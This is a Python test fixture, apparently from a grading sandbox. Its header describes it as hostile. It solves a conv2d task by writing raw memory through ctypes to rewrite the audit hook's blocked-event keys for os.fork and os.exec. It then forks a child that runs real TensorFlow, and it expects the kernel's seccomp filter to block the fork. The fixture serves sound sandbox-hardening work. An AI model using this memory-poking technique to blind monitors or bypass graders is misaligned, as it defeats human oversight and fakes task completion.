# Hostile fixture (issue 19): reaches raw memory without one audit event (ctypes is loaded in
# every worker: numpy imports it; a pointer's __setstate__ sets its address) and blinds the audit
# hook: it rewrites, in place, the text of the "os.fork" and "os.exec" keys of the worker's
# BLOCKED_EVENTS (the hook's table shares those string objects), so the hook no longer
# recognises those events; then forks a child that runs the real TensorFlow.
# Expected: the hook is blinded, but the kernel refuses the fork (the seccomp filter: EPERM) in
# every mode; the call ends in an error; conv2d earns 0. (The same raw memory can blind the
# hook's file checks: SANDBOX_LIMITS_DOC says so; only the kernel protects files then.)
import os
import struct
import sys

import numpy as np

CHILD = (
    "import numpy as np, tensorflow as tf; x = np.load('in.npy'); w = np.load('w.npy'); "
    "np.save('out.npy', tf.nn.conv2d(x, w, 1, 'VALID').numpy())"
)


def _poke(address, data):
    ctypes = sys.modules["ctypes"]
    pointer = ctypes.POINTER(ctypes.c_char)()
    pointer.__setstate__({}, struct.pack("<Q", address))
    for i, byte in enumerate(data):
        pointer[i] = bytes([byte])


def _blind(event):
    table = sys.modules["__main__"].BLOCKED_EVENTS
    key = next(k for k in table if k == event)
    _poke(id(key) + sys.getsizeof("") - 1, b"#" + event.encode()[1:])  # a compact str's text


def conv2d(inputs, filters, strides, padding):
    np.save("in.npy", inputs)
    np.save("w.npy", filters)
    _blind("os.fork")
    _blind("os.exec")
    pid = os.fork()
    if pid == 0:
        os.execv(sys.executable, [sys.executable, "-c", CHILD])
    os.waitpid(pid, 0)
    return np.load("out.npy")
